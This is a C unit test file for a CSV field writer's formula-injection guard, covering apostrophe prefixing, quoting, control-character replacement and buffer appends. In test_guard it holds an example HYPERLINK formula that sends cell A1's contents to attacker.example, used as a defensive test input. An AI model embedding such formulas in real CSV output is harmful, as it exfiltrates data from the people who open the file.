/* csv_guard.c - the formula-injection guard and one field's bytes:
 * pp_csv_guard_needs_prefix() and pp_csv_field_add(). */
#include <stdlib.h>
#include <string.h>

#include "harness.h"
#include "pp_csv.h"

/* The bytes pp_csv_field_add() appends for value with flags. */
static char *S_field(const char *value, int flags) {
  pp_buf b = PP_BUF_INIT;
  pp_buf_adds(&b, "");
  pp_csv_field_add(&b, value, flags);
  return pp_buf_detach(&b);
}

#define FIELD_EQ(value, flags, want)              \
  do {                                            \
    char *got_ = S_field((value), (flags));       \
    STR_EQ(got_, (want));                         \
    free(got_);                                   \
  } while (0)

static void test_needs_prefix(void) {
  /* The OWASP list: = + - @ TAB CR as the first byte. */
  OK(pp_csv_guard_needs_prefix("=HYPERLINK(\"http://x.example\",\"a\")"));
  OK(pp_csv_guard_needs_prefix("=1+1"));
  OK(pp_csv_guard_needs_prefix("+41 22 000 00 00"));
  OK(pp_csv_guard_needs_prefix("-2+3"));
  OK(pp_csv_guard_needs_prefix("-"));
  OK(pp_csv_guard_needs_prefix("@SUM(A1)"));
  OK(pp_csv_guard_needs_prefix("\tx"));
  OK(pp_csv_guard_needs_prefix("\rx"));
  /* Not a formula start. */
  OK(!pp_csv_guard_needs_prefix(NULL));
  OK(!pp_csv_guard_needs_prefix(""));
  OK(!pp_csv_guard_needs_prefix("a=1"));
  OK(!pp_csv_guard_needs_prefix(" =1"));
  OK(!pp_csv_guard_needs_prefix("\n=1"));
  OK(!pp_csv_guard_needs_prefix("'=1"));
  OK(!pp_csv_guard_needs_prefix("\xEF\xBC\x9D" "1")); /* U+FF1D FULLWIDTH EQUALS SIGN */
  OK(!pp_csv_guard_needs_prefix("Zo\xC3\xAB"));
  OK(!pp_csv_guard_needs_prefix("2021-03-03"));
}

static void test_plain_fields(void) {
  FIELD_EQ("plain", 0, "plain");
  FIELD_EQ("plain", PP_CSV_RAW, "plain");
  FIELD_EQ(NULL, 0, "");
  FIELD_EQ("", 0, "");
  FIELD_EQ(NULL, PP_CSV_QUOTE, "\"\"");
  FIELD_EQ("plain", PP_CSV_QUOTE, "\"plain\"");
  FIELD_EQ("  blanks kept  ", 0, "  blanks kept  ");
  FIELD_EQ("Zo\xC3\xAB \xF0\x9F\x8C\x8D", 0, "Zo\xC3\xAB \xF0\x9F\x8C\x8D");
  FIELD_EQ("it's", 0, "it's");
  FIELD_EQ("tab\tinside", 0, "tab\tinside");
}

static void test_quoted_fields(void) {
  FIELD_EQ("a,b", 0, "\"a,b\"");
  FIELD_EQ("say \"hi\"", 0, "\"say \"\"hi\"\"\"");
  FIELD_EQ("\"", 0, "\"\"\"\"");
  FIELD_EQ("line\nbreak", 0, "\"line\nbreak\"");
  FIELD_EQ("cr\r\nlf", 0, "\"cr\r\nlf\"");
  FIELD_EQ("bare\rcr", 0, "\"bare\rcr\"");
  FIELD_EQ(",", PP_CSV_RAW, "\",\"");
}

static void test_guard(void) {
  const char *hl = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"Click\")";
  FIELD_EQ(hl, 0, "\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"Click\"\")\"");
  FIELD_EQ(hl, PP_CSV_RAW, "\"=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"Click\"\")\"");
  FIELD_EQ("=1+1", 0, "'=1+1");
  FIELD_EQ("=1+1", PP_CSV_RAW, "=1+1");
  FIELD_EQ("+1 555 0100", 0, "'+1 555 0100");
  FIELD_EQ("-x", 0, "'-x");
  FIELD_EQ("@x", 0, "'@x");
  FIELD_EQ("\tx", 0, "'\tx");
  FIELD_EQ("\tx", PP_CSV_RAW, "\tx");
  FIELD_EQ("\rx", 0, "\"'\rx\"");
  FIELD_EQ("\rx", PP_CSV_RAW, "\"\rx\"");
  FIELD_EQ("=a,b", PP_CSV_QUOTE, "\"'=a,b\"");
  /* Controls other than TAB, LF, CR become U+FFFD (not under --raw). */
  FIELD_EQ("bell\a!", 0, "bell\xEF\xBF\xBD!");
  FIELD_EQ("\x1b[31m", 0, "\xEF\xBF\xBD[31m");
  FIELD_EQ("\x1b[31m", PP_CSV_RAW, "\x1b[31m");
  FIELD_EQ("=\x01", 0, "'=\xEF\xBF\xBD");
  FIELD_EQ("\x7f del stays", 0, "\x7f del stays");
}

static void test_appends(void) {
  /* Appends to what the row holds, NUL-terminated, no separator added. */
  pp_buf b = PP_BUF_INIT;
  pp_buf_adds(&b, "x,");
  pp_csv_field_add(&b, "a\"b", 0);
  pp_buf_addc(&b, ',');
  pp_csv_field_add(&b, "=c", 0);
  STR_EQ(b.data, "x,\"a\"\"b\",'=c");
  INT_EQ(b.len, strlen(b.data));
  pp_buf_free(&b);

  /* A long field with many quotes: libcsv's worst case, twice the size. */
  size_t n = 100000;
  char *q = pp_xmalloc(n + 1);
  memset(q, '"', n);
  q[n] = '\0';
  char *got = S_field(q, 0);
  INT_EQ(strlen(got), 2 * n + 2);
  OK(got[0] == '"' && got[2 * n + 1] == '"');
  free(got);
  free(q);
}

int main(void) {
  test_needs_prefix();
  test_plain_fields();
  test_quoted_fields();
  test_guard();
  test_appends();
  return pp_test_done("csv_guard");
}
